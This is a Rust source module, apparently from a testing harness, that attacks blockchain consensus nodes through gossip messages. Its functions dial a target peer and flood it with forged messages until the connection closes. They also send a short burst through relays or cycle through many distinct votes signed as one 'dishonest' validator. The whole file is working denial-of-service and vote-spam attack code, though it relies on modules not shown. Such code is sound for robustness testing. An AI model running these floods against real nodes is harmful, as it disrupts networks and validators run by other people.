//! Attacks by the content of gossip messages.

use std::io;

use wire::raw_snappy;

use crate::attack::Scene;
use crate::chain_view::ChainView;
use crate::forge::{Content, Forge};
use crate::gossip_pipe::{GossipPipe, message, topic};
use crate::link::{Link, Manner};
use crate::pace::Pace;

/// A function that creates the next message.
pub(super) type Make = fn(&mut Forge, &ChainView) -> Content;

/// The dishonest validator.
pub(super) const DISHONEST: u64 = 1;

/// The messages after which the votes of one validator begin again, with the votes of a new slot.
const VOTES: usize = 4096;

/// The numbers of votes that are tried for the next one; not every number is valid on every chain.
const TRIES: usize = 256;

/// The messages of the attack through relays, as in the report about relays that were banned.
const FEW: usize = 30;

/// Sends messages until the victim closes the connection.
pub(super) async fn flood(scene: &Scene, number: usize, make: Make) -> io::Result<()> {
    let link = Link::dial(scene.target(number), Manner::GossipOnly, &scene.tally).await?;
    let mut pipe = GossipPipe::open(&link).await?;
    let mut forge = Forge::new(number);
    let mut pace = Pace::new(scene.rate);
    while !link.is_closed() {
        pace.step().await;
        send(scene, &mut pipe, make(&mut forge, &scene.view())).await?;
    }
    Ok(())
}

/// Sends thirty messages, and stays connected afterwards.
pub(super) async fn few(scene: &Scene, number: usize, make: Make) -> io::Result<()> {
    let mut link = Link::dial(scene.target(number), Manner::GossipOnly, &scene.tally).await?;
    let mut pipe = GossipPipe::open(&link).await?;
    let mut forge = Forge::new(number);
    let mut pace = Pace::new(scene.rate);
    for _ in 0..FEW {
        pace.step().await;
        send(scene, &mut pipe, make(&mut forge, &scene.view())).await?;
    }
    link.closed().await;
    Ok(())
}

/// Sends as many different votes of one validator as the chain permits, again and again.
pub(super) async fn votes_of_one(scene: &Scene, number: usize) -> io::Result<()> {
    let link = Link::dial(scene.target(number), Manner::GossipOnly, &scene.tally).await?;
    let mut pipe = GossipPipe::open(&link).await?;
    let mut forge = Forge::new(number);
    let mut pace = Pace::new(scene.rate);
    let mut next = 0;
    while !link.is_closed() {
        pace.step().await;
        let view = scene.view();
        let numbers = (next..VOTES).chain(0..next);
        let found = numbers.map(|vote| (vote, forge.vote_of_one(&view, DISHONEST, vote)));
        let found = found.take(TRIES).find_map(|(vote, content)| Some((vote, content?)));
        let Some((vote, content)) = found else {
            next = 0;
            continue;
        };
        next = (vote + 1) % VOTES;
        send(scene, &mut pipe, content).await?;
    }
    Ok(())
}

/// Compresses a message and sends it.
pub(super) async fn send(
    scene: &Scene,
    pipe: &mut GossipPipe,
    (kind, ssz): Content,
) -> io::Result<()> {
    let compressed = raw_snappy::compress(&ssz).map_err(io::Error::other)?;
    let frame = message(topic(kind), compressed);
    pipe.send(&frame).await?;
    scene.tally.sent.add(1);
    scene.tally.bytes_sent.add(frame.len() as u64);
    Ok(())
}
